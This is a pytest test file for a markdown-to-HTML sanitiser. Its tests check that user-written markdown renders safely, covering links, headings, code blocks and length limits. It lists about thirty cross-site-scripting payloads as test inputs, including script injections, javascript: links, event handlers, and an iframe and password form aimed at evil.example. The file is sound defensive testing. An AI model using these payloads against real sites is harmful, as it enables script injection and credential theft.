"""Markdown of strangers: what they mean is shown, and nothing they smuggle in runs or loads."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bayleaf.campus.foundation.markdown import to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='https://x' style='position:fixed' target=_blank>x</a>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></p><img src onerror=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```html\n</pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<!--><script>alert(1)</script>-->",
    "| a |\n|:--|\n| <b onclick=alert(1)>x</b> |",
    "# <img src=x onerror=alert(1)>",
    "[![x](x)](javascript:alert(1))",
    "\u202e[x](javascript:alert(1))",
]
_ALLOWED = re.compile(
    r"</?(?:a|blockquote|br|code|em|h[345]|hr|li|ol|p|pre|strong|table|tbody|td|th|thead|tr|ul)"
    r'(?: href="(?:https?:|mailto:|[^:"]*(?:[/?#][^"]*)?")[^"<>]*"?)?'
    r'(?: rel="nofollow noopener ugc")?(?: tabindex="0")?>'
)


def is_harmless(html: str) -> bool:
    """Whether every tag is one of the allowed ones, with no attribute but a link's."""
    return not re.search(r"<[a-z/!]", _ALLOWED.sub("", html), re.IGNORECASE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack: str) -> None:
    html = to_html(attack)
    assert is_harmless(html), html
    assert not re.search(r'href="\s*(?:javascript|data|vbscript)', html, re.IGNORECASE)


@given(st.text(alphabet="<>/\"'`![]()#:=&; \n|ahrefscriptonload", max_size=120))
def test_no_text_at_all_makes_another_tag(text: str) -> None:
    assert is_harmless(to_html(text))


def test_a_link_says_that_it_is_others_words() -> None:
    html = to_html("[Course](https://school.example/a)")
    assert html == (
        '<p><a href="https://school.example/a" rel="nofollow noopener ugc">Course</a></p>\n'
    )


def test_headings_begin_below_those_of_the_page_and_keep_their_order() -> None:
    html = to_html("\n\n".join(f"{'#' * level} L{level}" for level in range(1, 7)))
    assert re.findall(r"<(h\d)>(L\d)</\1>", html) == [
        ("h3", "L1"), ("h4", "L2"), ("h5", "L3"), ("h5", "L4"), ("h5", "L5"), ("h5", "L6"),
    ]  # fmt: skip


def test_what_people_write_is_shown() -> None:
    html = to_html("*a* **b** `c`\n\n- d\n\n1. e\n\n> f\n\n| g |\n|---|\n| h |\n\nA & B < C")
    for part in ("<em>a</em>", "<strong>b</strong>", "<code>c</code>", "<li>d</li>", "<ol>",
                 "<blockquote>", "<td>h</td>", "A &amp; B &lt; C"):  # fmt: skip
        assert part in html


@pytest.mark.parametrize("unit", [">", "[", "*", "`", "- ", "<a ", "![](", "|a", "\\"])
def test_a_long_text_is_cut_and_never_takes_long(unit: str) -> None:
    started = time.thread_time()
    to_html(unit * 100_000)
    assert time.thread_time() - started < 2
    assert len(to_html("a" * 50_000)) < 21_000


def test_code_that_scrolls_can_be_scrolled_with_the_keyboard() -> None:
    assert '<pre tabindex="0"><code>long' in to_html("    long line of code")
